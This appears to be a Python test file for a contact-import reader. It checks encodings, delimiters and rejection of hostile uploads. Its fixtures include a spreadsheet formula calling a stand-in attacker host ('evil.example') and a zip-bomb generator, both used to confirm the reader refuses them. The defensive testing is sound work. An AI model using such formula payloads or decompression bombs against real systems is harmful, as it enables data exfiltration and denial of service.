"""Files in every writing are read as people meant them; hostile ones end early, with a sentence that helps."""

import io
import zipfile
from datetime import date

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from coaching.journeys.import_people import reading
from coaching.journeys.import_people.reading import FileRefused, Format

WORDS = "Name;Straße\nBjörn;Łódź\n"


def read(body: bytes) -> list[list[str]]:
    file = io.BytesIO(body)
    found, _ = reading.look(file)
    return list(reading.rows(file, found))


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"], ids=lambda encoding: encoding
)
def test_a_file_is_read_in_the_writing_it_has(encoding: str) -> None:
    assert read(WORDS.encode(encoding)) == [["Name", "Straße"], ["Björn", "Łódź"]]


def test_a_file_of_an_old_windows_is_read_too() -> None:
    assert read("Name;Ort\nBjörn;Zürich\n".encode("cp1252")) == [["Name", "Ort"], ["Björn", "Zürich"]]


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_the_delimiter_is_found(delimiter: str) -> None:
    lines = [["Name", "Note"], ["Ana", "likes tea"], ["Ben", "x"]]
    assert read("\r\n".join(delimiter.join(row) for row in lines).encode()) == lines


def test_a_comma_within_quotes_parts_nothing_and_a_line_may_be_broken_there() -> None:
    assert read(b'Name,Note\n"Ana, the first","two\nlines"\n') == [["Name", "Note"], ["Ana, the first", "two\nlines"]]


def test_empty_rows_and_cells_behind_the_last_are_left_out() -> None:
    assert read(b"Name,Phone,,\n\n,,,\nAna,1,,\n") == [["Name", "Phone"], ["Ana", "1"]]


def test_nuls_within_a_text_are_dropped() -> None:
    assert read(b"Name,Phone\n" + b"Ben,+2\n" * 2000 + b"A\x00na,+1\n")[-1] == ["Ana", "+1"]


def workbook(rows: list[list[object]]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def test_a_workbook_is_read_as_it_shows_numbers_and_dates() -> None:
    body = workbook(
        [["Name", "Phone", "Start"], ["Ana", 15551230001, date(2026, 3, 4)], ["Ben", 4915112345678.0, None]]
    )
    assert read(body) == [["Name", "Phone", "Start"], ["Ana", "15551230001", "2026-03-04"], ["Ben", "4915112345678"]]


def test_a_formula_in_a_workbook_is_never_run() -> None:
    body = workbook([["Name", "Phone"], ["Ana", '=WEBSERVICE("http://evil.example/")']])
    assert read(body) == [["Name", "Phone"], ["Ana"]]


def bomb(name: str, size: int) -> bytes:
    """A small file that says it is huge once it is unpacked, and is."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed, packed.open(name, "w", force_zip64=True) as part:
        block = b"\0" * 10_000_000
        for _ in range(size // len(block)):
            part.write(block)
    return file.getvalue()


def test_a_workbook_that_would_fill_the_disk_is_refused_before_it_is_unpacked() -> None:
    body = bomb("xl/sharedStrings.xml", 310_000_000)
    assert len(body) < 1_000_000
    with pytest.raises(FileRefused, match="too big once it is unpacked"):
        read(body)


def test_a_workbook_of_too_many_parts_is_refused() -> None:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        for number in range(reading.MOST_PARTS + 1):
            packed.writestr(f"{number}.xml", "")
    with pytest.raises(FileRefused, match="too big"):
        read(file.getvalue())


def test_a_zip_that_is_no_workbook_is_refused() -> None:
    with pytest.raises(FileRefused, match="cannot be read"):
        read(bomb("holiday.jpg", 10_000_000))


def test_what_a_sheet_claims_of_its_size_is_not_believed() -> None:
    """A sheet that says A1:XFD1048576 and holds two rows has two rows."""
    plain = io.BytesIO(workbook([["Name", "Phone"], ["Ana", "+1"]]))
    file = io.BytesIO()
    with zipfile.ZipFile(plain) as before, zipfile.ZipFile(file, "w") as after:
        for part in before.infolist():
            body = before.read(part)
            after.writestr(part.filename, body.replace(b'ref="A1:B2"', b'ref="A1:XFD1048576"'))
    assert read(file.getvalue()) == [["Name", "Phone"], ["Ana", "+1"]]


@pytest.mark.parametrize(
    ("body", "why"),
    [
        (b"Name,Phone\n" + b"," * 1_000 + b"x\n", "columns"),
        (b"Name,Phone\n" + b"," * 1_000_000 + b"x\n", "letters"),
        (b"Name,Phone\nAna," + b"9" * 3_000 + b"\n", "quotation mark"),
        (b'Name,Phone\nAna,"' + b"line\n" * 100_000, "quotation mark"),
        (b"Name,Phone", "no rows of people"),
        (b"\n\n\n", "empty"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00\x01\x02" * 2_000, "not a table"),
    ],
    ids=["columns", "endless line", "giant cell", "open quote", "header alone", "blank", "picture"],
)
def test_what_is_beyond_reason_is_refused_with_a_sentence(body: bytes, why: str) -> None:
    with pytest.raises(FileRefused, match=why):
        read(body)


def test_more_rows_than_allowed_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "MOST_ROWS", 3)
    assert len(read(b"Name\nA,1\nB,1\nC,1\n")) == 4
    with pytest.raises(FileRefused, match="more than 3 people"):
        read(b"Name\nA,1\nB,1\nC,1\nD,1\n")


@given(st.binary(max_size=400))
def test_whatever_comes_is_read_or_refused(body: bytes) -> None:
    try:
        rows = read(body)
    except FileRefused:
        return
    assert all(isinstance(cell, str) for row in rows for cell in row)


_WORD = st.text(st.characters(exclude_categories=("C", "Z")), min_size=1, max_size=12)


@given(st.lists(st.lists(_WORD, min_size=3, max_size=3), min_size=1, max_size=5))
def test_what_a_spreadsheet_writes_is_what_is_read(rows: list[list[str]]) -> None:
    import csv

    out = io.StringIO()
    csv.writer(out).writerows([["a", "b", "c"], *rows])
    file = io.BytesIO(out.getvalue().encode())
    assert list(reading.rows(file, Format("csv", "utf-8", ",")))[1:] == rows
